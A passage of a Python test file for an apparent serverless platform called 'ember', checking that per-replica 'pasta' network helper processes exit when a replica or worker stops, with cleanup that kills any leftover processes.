            platform.ember_as(mallory.token, "replica", "ls", "probe", "--json").stdout
        )
        return all(row["id"] != replica for row in rows)

    wait_for(gone, 60)
    time.sleep(3)
    left = sorted(set(_orphaned(port)) - before)
    try:
        assert not left, (
            f"the stopped replica's pasta is still running (pids {left}, uid "
            f"{[os.stat(f'/proc/{p}').st_uid for p in left]}), its namespace's holder gone"
        )
    finally:
        for pid in left:
            with contextlib.suppress(OSError):
                os.kill(pid, 9)


def test_pasta_quits_when_the_worker_stops(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        need("root", "replicas get networks of their own from a root worker")
    app = tmp_path / "app" / "app.py"
    app.parent.mkdir()
    app.write_text(
        "import ember\n\n\n@ember.endpoint(scaledown_window=300, snapshot=False)\n"
        "def hello() -> str:\n    return 'hi'\n"
    )
    with running_platform(tmp_path / "platform") as platform:
        port = urlsplit(platform.url).port
        assert port is not None
        platform.deploy(app, "short")
        with platform.client(timeout=240) as client:
            assert client.post("/short--hello/", json={}).status_code == 200
        running = _pastas(port)
        assert running, "no pasta for the replica"
    time.sleep(3)
    left = [pid for pid, _ in _pastas(port)]
    try:
        assert not left, f"the stopped worker's replicas' pasta still runs: pids {left}"
    finally:
        for pid in left:
            with contextlib.suppress(OSError):
                os.kill(pid, 9)
